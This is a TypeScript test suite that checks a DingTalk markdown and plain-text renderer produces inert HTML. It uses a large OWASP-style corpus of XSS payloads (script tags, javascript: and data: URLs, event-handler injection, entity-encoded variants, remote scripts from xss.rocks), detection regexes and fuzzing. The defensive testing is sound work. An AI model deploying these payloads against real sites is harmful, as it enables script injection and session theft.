import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { htmlAllowlistProblems } from './html-allowlist.ts';
import { renderDingtalkMarkdown, renderPlainText } from './render.ts';

/** OWASP filter-evasion cheat sheet style payloads, as HTML and as markdown. */
const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>X</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '\u0000<script>alert(1)</script>',
];

const MARKDOWN_PAYLOADS = [
  '[a](javascript:alert(1))',
  '[a](JAVASCRIPT:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](java&#x09;script:alert(1))',
  '[a](java%09script:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a]( javascript:alert(1))',
  '[a](\njavascript:alert(1))',
  '[a](java\u0000script:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](javascript\u200b:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](//evil.example/x)',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![a](data:image/png;base64,iVBORw0KGgo=)',
  '![a](javascript:alert(1))',
  '![a"onerror="alert(1)](http://x.cn/a.png)',
  '![a](http://x.cn/a.png"onerror="alert(1))',
  '![a](http://x.cn/a.png "t\\" onerror=\\"alert(1)")',
  '[a](http://x.cn "title\\" onmouseover=\\"alert(1)")',
  `[a](http://x.cn 'x" onmouseover="alert(1)')`,
  '[a](http://x.cn) onmouseover="alert(1)"',
  '[<script>alert(1)</script>](http://x.cn)',
  '[a](http://x.cn/"><script>alert(1)</script>)',
  '[a](https://x.cn/?q=<script>)',
  '[a](dingtalk://"><script>alert(1)</script>)',
  '[a](dtmd://dingtalkclient/sendMessage?content=<img src=x onerror=alert(1)>)',
  '[![x](http://x.cn/a.png)](javascript:alert(1))',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<font color="#ff0000" onmouseover="alert(1)">x</font>',
  '<font color="#ff0000"onmouseover=alert(1)>x</font>',
  '<font color=#ff0000 style="background:url(javascript:alert(1))">x</font>',
  '<font color="red;background:url(javascript:alert(1))">x</font>',
  `<font color='#ff0000"><script>alert(1)</script>'>x</font>`,
  '<font color="#ff0000\\" onclick=\\"alert(1)">x</font>',
  '<font color=#ff0000><font color=#00ff00><script>alert(1)</script></font></font>',
  '<font color=#ff0000><img src=x onerror=alert(1)></font>',
  '<font color="javascript:alert(1)">x</font>',
  '<font color=expression(alert(1))>x</font>',
  '<font color=#ff0000>**a</font>**',
  '<font color=#ff0000>[a</font>](http://x.cn)',
  '```\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script> | x |\n|---|---|\n| 1 | 2 |',
];

const CONTEXTS: ((payload: string) => string)[] = [
  (p) => p,
  (p) => `# ${p}`,
  (p) => `> ${p}`,
  (p) => `- ${p}\n1. ${p}`,
  (p) => `**${p}** *${p}*`,
  (p) => `[${p}](https://x.cn)`,
  (p) => `![${p}](https://x.cn/a.png)`,
  (p) => `<font color=#123456>${p}</font>`,
  (p) => `前文 ${p}  \n后文 @156xxxx8827`,
  (p) => `| ${p} | b |\n|:-:|--:|\n| ${p} | <font color=red>${p}</font> |`,
];

const MENTIONS = ['156xxxx8827', '<img src=x onerror=alert(1)>', '"onclick="alert(1)'];

function expectInert(html: string): void {
  expect(htmlAllowlistProblems(html), html).toEqual([]);
  // A second, blunter net that does not depend on the allowlist's parser.
  expect(html).not.toMatch(/<(?:script|iframe|svg|style|object|embed|link|meta|base|form|input|math)\b/i);
  for (const tag of html.match(/<[^>]*>/g) ?? [])
    expect(tag.replace(/"[^"]*"/g, '""'), tag).not.toMatch(/[\s/]on[a-z]+\s*=/i);
  expect(html).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data|file):/i);
}

describe('XSS corpus', () => {
  const payloads = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS];
  it.each(payloads)('markdown render of %j is inert in every context, for phones and PC', (payload) => {
    for (const wrap of CONTEXTS)
      for (const pc of [false, true]) expectInert(renderDingtalkMarkdown(wrap(payload), { mentions: MENTIONS, pc }));
  });

  it.each(payloads)('plain text render of %j is inert', (payload) => {
    expectInert(renderPlainText(payload, { mentions: [...MENTIONS, payload] }));
  });

  it('turns a mention that looks like HTML into escaped text', () => {
    const html = renderDingtalkMarkdown('hi @<img src=x onerror=alert(1)>', { mentions: MENTIONS });
    expect(html).toContain('<span class="dp-mention">@&lt;img src=x onerror=alert(1)&gt;</span>');
  });
});

describe('the allowlist check catches what it must', () => {
  it.each([
    '<script>alert(1)</script>',
    '<p onclick="x">a</p>',
    '<a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer">x</a>',
    '<a href="java\tscript:alert(1)" target="_blank" rel="noopener noreferrer">x</a>',
    '<a href="https://x.cn">no rel</a>',
    '<img src="data:image/png;base64,AAAA" alt="">',
    '<span style="color:red;background:url(x)">x</span>',
    '<span style="color:expression(alert(1))">x</span>',
    '<td style="text-align:left;background:url(x)">x</td>',
    '<span class="evil">x</span>',
    '<p>unclosed',
    '<p>a</em></p>',
    '<p>"quote"</p>',
    '<p>&#106;</p>',
    '<p title=x>a</p>',
    '<a href="dtmd://x" target="_blank" rel="noopener noreferrer" data-dp-scheme="dingtalk">x</a>',
  ])('%j is refused', (html) => {
    expect(htmlAllowlistProblems(html)).not.toEqual([]);
  });
});

/** Pieces that make markdown, HTML and URL syntax collide far more often than random characters do. */
const PIECES = [
  ...'<>"\'&#;[]()!*_`~\\|-=:/ \t\n@.',
  '  \n',
  '\n\n',
  '# ',
  '> ',
  '- ',
  '1. ',
  '![',
  '[a](',
  '](http://x.cn/ "',
  "](https://x.cn/a.png '",
  ' (t) ',
  '<font color=',
  '<font color="',
  '#ff0000',
  'red',
  '#f00',
  '|',
  '|:-:|',
  '\n|---|---|\n',
  '>',
  '</font>',
  'javascript:',
  'JaVa\tScRiPt:',
  'data:',
  'http://x.cn/',
  'https://',
  'dtmd://',
  'dingtalk://',
  '@lADOp',
  'onerror=',
  ' onclick="',
  'alert(1)',
  '<script>',
  '<img src=x ',
  '&#106;',
  '&amp;',
  '&quot;',
  '\u0000',
  '\u2028',
  '中文',
  'abc',
  '@138',
];

const markdownish = fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((parts) => parts.join(''));
/** Links and images with generated label, target and title, so that every attribute path gets exercised. */
const CLOSE = { '"': '"', "'": "'", '(': ')' } as const;
const linkish = fc
  .tuple(
    fc.constantFrom('[', '!['),
    markdownish,
    fc.constantFrom('http://x.cn/', 'https://x.cn/a.png?', 'dtmd://x?', 'dingtalk://x/', '@lADOpwk3K80C0M0FoA', ''),
    markdownish,
    fc.constantFrom('"', "'", '('),
    markdownish,
  )
  .map(([open, label, base, target, quote, title]) => {
    const url = (base + target).replace(/[\s()]/g, '');
    return `${open}${label}](${url} ${quote}${title.replace(/[\\"'()]/g, (c) => `\\${c}`)}${CLOSE[quote]})`;
  });
const anyText = fc.oneof(markdownish, linkish, fc.string({ unit: 'binary', maxLength: 200 }));
const mentions = fc.array(fc.oneof(fc.constantFrom('138', 'x"y', '<b>'), fc.string({ maxLength: 8 })), {
  maxLength: 3,
});

describe('property: no input yields a disallowed tag, attribute or URL', () => {
  it('markdown', () => {
    fc.assert(
      fc.property(anyText, mentions, fc.boolean(), (text, ids, pc) => {
        expect(htmlAllowlistProblems(renderDingtalkMarkdown(text, { mentions: ids, pc }))).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });

  it('plain text', () => {
    fc.assert(
      fc.property(anyText, mentions, (text, ids) => {
        expect(htmlAllowlistProblems(renderPlainText(text, { mentions: ids }))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });
});
